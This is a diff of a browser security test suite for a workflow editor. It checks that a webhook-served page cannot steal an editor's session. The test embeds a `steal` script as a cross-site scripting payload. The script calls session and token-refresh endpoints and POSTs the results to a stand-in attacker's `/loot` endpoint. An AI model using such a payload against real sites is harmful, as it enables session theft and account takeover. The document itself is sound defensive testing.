@@ -61,15 +61,14 @@ async function steal(attacker: string): Promise<Record<string, string>> {
     const r = await fetch('/api/v1/me', { credentials: 'include' });
     return `${r.status} ${await r.text()}`;
   });
-  await attempt('refresh', async () => {
-    const r = await fetch('/api/v1/auth/refresh', { method: 'POST', credentials: 'include', headers: { 'x-callflow-session': 'cookie', 'content-type': 'application/json' }, body: '{}' });
+  const refresh = async (headers: Record<string, string>) => {
+    const r = await fetch('/api/v1/auth/refresh', { method: 'POST', credentials: 'include', headers, body: '{}' });
     return `${r.status} ${await r.text()}`;
-  });
-  await attempt('refreshSimple', async () => {
-    const r = await fetch('/api/v1/auth/refresh', { method: 'POST', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{}' });
-    return `${r.status} ${await r.text()}`;
-  });
-  await fetch(`${attacker}/loot`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) }).catch(() => undefined);
+  };
+  await attempt('refresh', () => refresh({ 'x-callflow-session': 'cookie', 'content-type': 'application/json' }));
+  await attempt('refreshSimple', () => refresh({ 'content-type': 'text/plain' }));
+  const loot = JSON.stringify(report);
+  await fetch(`${attacker}/loot`, { method: 'POST', mode: 'no-cors', body: loot }).catch(() => undefined);
   return report;
 }
 
@@ -84,24 +83,32 @@ suite('security in the browser: a webhook answer cannot take over an editor sess
 
   beforeAll(async () => {
     buildEditor();
-    [t, browser, attacker] = await Promise.all([TestApp.start({ EDITOR_DIR: EDITOR_DIST }), launch(), attackerServer()]);
+    [t, browser, attacker] = await Promise.all([
+      TestApp.start({ EDITOR_DIR: EDITOR_DIST }), launch(), attackerServer(),
+    ]);
 
     // Tenant B's admin (hostile) publishes the trap.
     const b = { email: 'mallory@tenant-b.test', password: 'tenant-b-password-2025!' };
-    await t.as('post', '/api/v1/tenants').send({ name: 'Tenant B', adminEmail: b.email, adminPassword: b.password }).expect(201);
+    const tenantB = { name: 'Tenant B', adminEmail: b.email, adminPassword: b.password };
+    await t.as('post', '/api/v1/tenants').send(tenantB).expect(201);
     const tokenB = (await t.http().post('/api/v1/auth/login').send(b).expect(200)).body.accessToken as string;
     const asB = (method: 'post', url: string) => t.http()[method](url).set('authorization', `Bearer ${tokenB}`);
-    keyB = (await asB('post', '/api/v1/api-keys').send({ name: 'trap', scopes: ['triggers.invoke'] }).expect(201)).body.key;
+    const key = await asB('post', '/api/v1/api-keys').send({ name: 'trap', scopes: ['triggers.invoke'] }).expect(201);
+    keyB = key.body.key;
     const page = [
       '<!doctype html><title>Caller</title><h1 id="card">Caller card</h1>',
       `<img src="${attacker.url}/pixel.png" alt="">`,
-      `<script>(${steal.toString()})(${JSON.stringify(attacker.url)}).then(() => fetch(${JSON.stringify(attacker.url)} + '/script-ran'))</script>`,
+      `<script>(${steal.toString()})(${JSON.stringify(attacker.url)})`,
+      `.then(() => fetch(${JSON.stringify(attacker.url)} + '/script-ran'))</script>`,
     ].join('');
     const definition = {
       schemaVersion: 1,
       nodes: [
         { id: 't', type: 'trigger.webhook', name: 'hook', position: { x: 0, y: 0 }, config: { methods: ['GET'] } },
-        { id: 'r', type: 'respond', name: 'page', position: { x: 200, y: 0 }, config: { body: { type: 'text', template: page, contentType: 'text/html; charset=utf-8' } } },
+        {
+          id: 'r', type: 'respond', name: 'page', position: { x: 200, y: 0 },
+          config: { body: { type: 'text', template: page, contentType: 'text/html; charset=utf-8' } },
+        },
       ],
       edges: [{ id: 'e1', source: 't', target: 'r' }],
     };
@@ -112,7 +119,9 @@ suite('security in the browser: a webhook answer cannot take over an editor sess
     // The bootstrap admin signs in to the editor; CSP violations anywhere are recorded.
     context = await browser.newContext({ baseURL: t.baseUrl, viewport: { width: 1280, height: 800 } });
     await context.addInitScript(() => {
-      document.addEventListener('securitypolicyviolation', (e) => console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`));
+      document.addEventListener('securitypolicyviolation', (e) => {
+        console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`);
+      });
     });
     editor = await context.newPage();
     editor.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
@@ -150,7 +159,8 @@ suite('security in the browser: a webhook answer cannot take over an editor sess
     expect(await editor.evaluate(() => Object.keys(localStorage).filter((k) => /session|token/i.test(k)))).toEqual([]);
     expect(await editor.evaluate(() => document.cookie)).not.toContain('callflow_refresh');
     const [cookie] = (await context.cookies()).filter((c) => c.name === 'callflow_refresh');
-    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/api/v1/auth', value: expect.stringMatching(/^cfr_/) });
+    const value = expect.stringMatching(/^cfr_/);
+    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/api/v1/auth', value });
   });
 
   it('opening the webhook link: the page renders, its script never runs, the attacker gets no session', async () => {
@@ -195,7 +205,8 @@ suite('security in the browser: a webhook answer cannot take over an editor sess
   });
 
   it('a reload restores the session from the cookie; an old localStorage session is removed', async () => {
-    await editor.evaluate(() => localStorage.setItem('callflow.session', JSON.stringify({ token: 'old', user: { email: 'x' } })));
+    const legacy = JSON.stringify({ token: 'old', user: { email: 'x' } });
+    await editor.evaluate((v) => localStorage.setItem('callflow.session', v), legacy);
     const refreshed = editor.waitForResponse((r) => r.url().endsWith('/api/v1/auth/refresh'));
     await editor.reload();
     expect((await refreshed).status()).toBe(200);
@@ -204,14 +215,17 @@ suite('security in the browser: a webhook answer cannot take over an editor sess
     await expect(editor.locator('[data-testid=rail-user]').getAttribute('title')).resolves.toBe(ADMIN.email);
   });
 
-  it('the editor canvas (which shows why a respond node may not set a cookie) and Swagger UI run under their CSPs', async () => {
+  it('the editor canvas (saying why a respond node may not set a cookie) and Swagger UI run under their CSP', async () => {
     const created = await t.as('post', '/api/v1/flows').send({
       name: 'CSP check', key: 'csp-check',
       definition: {
         schemaVersion: 1,
         nodes: [
           { id: 't', type: 'trigger.webhook', name: 'hook', position: { x: 0, y: 0 }, config: { methods: ['POST'] } },
-          { id: 'r', type: 'respond', name: 'answer', position: { x: 300, y: 0 }, config: { headers: [{ name: 'Set-Cookie', value: 'sid=1' }], body: { type: 'text', template: 'ok' } } },
+          {
+            id: 'r', type: 'respond', name: 'answer', position: { x: 300, y: 0 },
+            config: { headers: [{ name: 'Set-Cookie', value: 'sid=1' }], body: { type: 'text', template: 'ok' } },
+          },
         ],
         edges: [{ id: 'e1', source: 't', target: 'r' }],
       },
@@ -232,12 +246,12 @@ suite('security in the browser: a webhook answer cannot take over an editor sess
   it('no source maps were built or are served', async () => {
     const maps = fs.readdirSync(path.join(EDITOR_DIST, 'assets')).filter((f) => f.endsWith('.map'));
     expect(maps).toEqual([]);
-    const script = await editor.evaluate(() => (document.querySelector('script[type=module]') as HTMLScriptElement).src);
+    const script = await editor.evaluate(() => document.querySelector<HTMLScriptElement>('script[type=module]')!.src);
     const r = await t.http().get(`${new URL(script).pathname}.map`);
     expect(r.status).toBe(404);
   });
 
-  it('an access token refused mid-session (as when it expires) is renewed from the cookie once, and the call retried', async () => {
+  it('an access token refused mid-session (as on expiry) is renewed from the cookie, the call retried', async () => {
     await editor.goto('/flows');
     await editor.locator('[data-testid=flows-page]').waitFor();
     await editor.locator('[data-testid=nav-executions]').click();
@@ -248,7 +262,9 @@ suite('security in the browser: a webhook answer cannot take over an editor sess
     const flowsList = (url: URL) => url.pathname === '/api/v1/flows';
     await editor.route(flowsList, async (route) => {
       if (refused++ > 0) return route.continue();
-      await route.fulfill({ status: 401, contentType: 'application/json', body: JSON.stringify({ statusCode: 401, error: 'Unauthorized', message: 'the access token is invalid or expired' }) });
+      const message = 'the access token is invalid or expired';
+      const body = JSON.stringify({ statusCode: 401, error: 'Unauthorized', message });
+      await route.fulfill({ status: 401, contentType: 'application/json', body });
     });
     const renewed = editor.waitForResponse((r) => r.url().endsWith('/api/v1/auth/refresh'));
     await editor.locator('[data-testid=nav-flows]').click();
@@ -259,7 +275,7 @@ suite('security in the browser: a webhook answer cannot take over an editor sess
     await editor.unroute(flowsList);
   });
 
-  it('tabs opened at once all restore the session: their refreshes take turns (a reused refresh token would end it)', async () => {
+  it('tabs opened at once all restore the session: their refreshes take turns (reusing one would end it)', async () => {
     const tabs = await Promise.all([context.newPage(), context.newPage(), context.newPage()]);
     await Promise.all(tabs.map((tab) => tab.goto('/flows')));
     await Promise.all(tabs.map((tab) => tab.locator('[data-testid=flows-page]').waitFor()));
@@ -275,7 +291,8 @@ suite('security in the browser: a webhook answer cannot take over an editor sess
     await editor.locator('[data-testid=sign-out]').click();
     await editor.waitForURL(/\/login/);
     expect((await context.cookies()).filter((c) => c.name === 'callflow_refresh')).toEqual([]);
-    await t.http().post('/api/v1/auth/refresh').set('x-callflow-session', 'cookie').set('cookie', `callflow_refresh=${cookie!.value}`).send({}).expect(401);
+    const refresh = t.http().post('/api/v1/auth/refresh').set('x-callflow-session', 'cookie');
+    await refresh.set('cookie', `callflow_refresh=${cookie!.value}`).send({}).expect(401);
     await editor.reload();
     await editor.locator('[data-testid=login-form]').waitFor();
   });
